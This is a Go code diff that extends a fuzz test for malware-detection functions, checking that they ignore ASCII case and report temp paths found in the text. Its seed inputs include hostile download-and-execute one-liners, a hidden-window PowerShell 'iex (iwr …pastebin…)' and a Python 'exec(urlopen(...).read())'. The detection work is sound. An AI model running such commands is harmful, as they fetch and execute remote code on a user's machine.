@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"bytes"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -173,13 +174,24 @@ func FuzzRuleFiles(f *testing.F) {
 	})
 }
 
-// FuzzRetrieval: the finders read any text without panicking.
+// FuzzRetrieval: the finders read any text without panicking, ignore ASCII
+// case (what they say of a text they say of it in upper case), and a temp
+// place they name is in the text.
 func FuzzRetrieval(f *testing.F) {
 	f.Add([]byte(`powershell -w h -c "iex (iwr https://pastebin.com/raw/x) > $env:TEMP\x"`), true)
 	f.Add([]byte(`python -c "exec(urlopen('x').read())"`), false)
+	f.Add([]byte(`curl -s https://x/y | sha256sum`), false)
 	f.Fuzz(func(t *testing.T, text []byte, ps bool) {
-		DownloadExecute(text, ps)
-		HiddenWindow(text, ps)
+		upper := bytes.ToUpper(text)
+		if !utf8.Valid(text) || !bytes.Equal(bytes.ToLower(upper), appendASCIILower(nil, text)) {
+			upper = text // only ASCII case is ignored: keep the property to texts where ToUpper is ASCII's
+		}
+		if a, b := DownloadExecute(text, ps), DownloadExecute(upper, ps); a != b {
+			t.Fatalf("%q says %q, in upper case %q", text, a, b)
+		}
+		if a, b := HiddenWindow(text, ps), HiddenWindow(upper, ps); a != b {
+			t.Fatalf("%q hidden %v, in upper case %v", text, a, b)
+		}
 		if p := TempPlace(text); p != "" && !containsFold(text, p) {
 			t.Fatalf("place %q not in the text", p)
 		}
